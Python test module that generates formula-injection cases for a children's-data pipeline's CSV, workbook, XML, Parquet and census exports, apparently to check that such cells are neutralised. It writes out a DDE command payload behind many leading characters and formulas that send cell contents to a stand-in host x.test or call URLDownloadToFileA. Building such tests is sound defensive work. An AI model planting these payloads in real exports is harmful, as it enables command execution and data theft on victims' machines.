"""Cells that a spreadsheet would run, if they were ever exported to one."""

from functools import partial

from tests.hostile.case import Hostile
from tests.hostile.cells import (
    in_903,
    in_903_xml,
    in_annex_a,
    in_book,
    in_cin,
    in_csv,
    in_parquet,
    in_payload,
)

KIND = "formulas"

_COMMAND = "cmd|' /C calc'!A0"
STARTS = {
    "an equals sign": "=",
    "a plus": "+",
    "an at sign": "@",
    "a minus": "-",
    "a full-width equals sign": "＝",
    "a full-width plus": "＋",
    "a full-width minus": "－",
    "a full-width at sign": "＠",
    "a tab and an equals sign": "\t=",
    "a return and an equals sign": "\r=",
    "spaces and an equals sign": "   =",
    "a no-break space and an equals sign": "\xa0=",
    "an ideographic space and an equals sign": "\u3000=",
    "a minus, a sum and a command": "-2+3+",
    "two equals signs": "==",
    "an at sign for a sum": "@SUM(1+1)*",
}
_SAYS = "a command after {}"
OTHERS = {
    "a link that carries the cells away": '=HYPERLINK("http://x.test/?"&A1,"ok")',
    "a picture that carries the cells away": '=IMAGE("http://x.test/"&A1)',
    "a web service": '=WEBSERVICE("http://x.test/"&A1)',
    "an imported feed": '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
    "a live data exchange": '=DDE("cmd";"/C calc";"x")',
    "an external workbook": "='\\\\x.test\\share\\[a.xls]S'!A1",
    "a macro called": '=CALL("urlmon","URLDownloadToFileA")',
    "a sum only": "=1+1",
    "an array": "{=1+1}",
    "a quotation mark before the sign": '"=1+1"',
}
# Neither sets a spreadsheet off by itself: the sign is not first.
_HARMLESS = ("an array", "a quotation mark before the sign")


def every() -> list[Hostile]:
    formula = "formula"
    found = [
        in_csv(KIND, f"{_SAYS.format(says)}, in an extract's id", "missing_episodes",
               "child_id", start + _COMMAND, formula)
        for says, start in STARTS.items()
    ]  # fmt: skip
    found += [
        in_book(KIND, f"{_SAYS.format(says)}, in a workbook's text", "missing_episodes",
                "provider", start + _COMMAND, formula)
        for says, start in list(STARTS.items())[:9]
    ]  # fmt: skip
    found += [
        in_csv(KIND, f"{says}, in a provider's name", "return_interviews", "provider",
               text, formula)
        for says, text in OTHERS.items() if says not in _HARMLESS
    ]  # fmt: skip
    wide = {says: STARTS[says] for says in list(STARTS)[:6]}
    for one in (
        partial(in_903, file="header", column="CHILD"),
        partial(in_annex_a, sheet="List 3", column="Child Unique ID"),
        partial(in_parquet, table="children", column="child_id"),
    ):
        found += [
            one(KIND, f"{_SAYS.format(says)}, in {one.func.__name__[3:]}",
                text=start + _COMMAND, code=formula)
            for says, start in wide.items()
        ]  # fmt: skip
    for says in ("an equals sign", "a full-width plus", "an at sign"):
        text = STARTS[says] + _COMMAND
        found += [
            in_cin(KIND, f"{_SAYS.format(says)}, in a census", "LAchildID", text, formula),
            in_903_xml(KIND, f"{_SAYS.format(says)}, in a return", "CHILD", text, formula),
            in_payload(KIND, f"{_SAYS.format(says)}, in a payload", "la_child_id", text,
                       formula),
        ]  # fmt: skip
    return found
